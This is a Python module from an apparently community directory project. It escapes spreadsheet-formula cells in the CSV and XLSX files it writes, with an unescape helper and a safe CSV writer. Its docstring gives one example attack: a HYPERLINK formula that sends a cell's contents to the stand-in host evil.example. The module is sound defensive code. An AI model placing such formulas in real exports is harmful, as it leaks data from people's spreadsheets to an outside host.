"""Cells a spreadsheet program will not run as formulas, for every CSV and XLSX the hub writes.

A title like `=HYPERLINK("http://evil.example/?x="&A1,"Day camp")` in a download becomes a live
link (or worse) when someone opens the file in a spreadsheet program. OWASP's rule: a text cell
that starts with = + - @, a tab or a carriage return is written behind an apostrophe, which
shows it as text. Also escaped: a cell that already starts with an apostrophe, so the rule can
be undone exactly (`unescape`) by the hub's own readers (HSDS tables, the spreadsheet import).

Numbers are written as numbers (-3 and 2.5 cannot run anything), and so is text that is just a
plain number ("-119.89"), so coordinates and counts stay numbers in a spreadsheet. So is a
phone number such as "+1 (510) 555-0100": with nothing but digits, spaces and ( ) . - it can
name no function or cell, and the HSDS tables are read by other directories' programs, which
would keep an apostrophe as part of the number.

This module sits at the top of `hub/` and imports nothing of the project, so every app (the
content app, equity, translations, HSDS, imports) may use it without leaning on another.
"""

import csv
import re
from decimal import Decimal

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
ESCAPE = "'"
PLAIN_NUMBER = re.compile(r"[+-]?([0-9]+\.?[0-9]*|\.[0-9]+)([eE][+-]?[0-9]+)?")
PHONE_NUMBER = re.compile(r"\+[0-9][0-9 ().-]*")


def safe_cell(value):
    """`value` as a cell no spreadsheet program runs: numbers and None as they are, text (or
    anything else, as its text) behind an apostrophe when it starts like a formula."""
    if value is None or isinstance(value, int | float | Decimal):  # bool is an int
        return value
    text = str(value)
    harmless = PLAIN_NUMBER.fullmatch(text) or PHONE_NUMBER.fullmatch(text)
    if text.startswith((*FORMULA_STARTS, ESCAPE)) and not harmless:
        return ESCAPE + text
    return text


def unescape(text):
    """The text `safe_cell` was given: the apostrophe taken off only where `safe_cell` put it
    (before a formula start or another apostrophe)."""
    if text.startswith(ESCAPE) and text[1:2] and text[1] in (*FORMULA_STARTS, ESCAPE):
        return text[1:]
    return text


class SafeWriter:
    """A csv.writer whose every cell goes through `safe_cell`."""

    def __init__(self, out, **options):
        self._writer = csv.writer(out, **options)

    def writerow(self, row):
        return self._writer.writerow([safe_cell(value) for value in row])

    def writerows(self, rows):
        for row in rows:
            self.writerow(row)
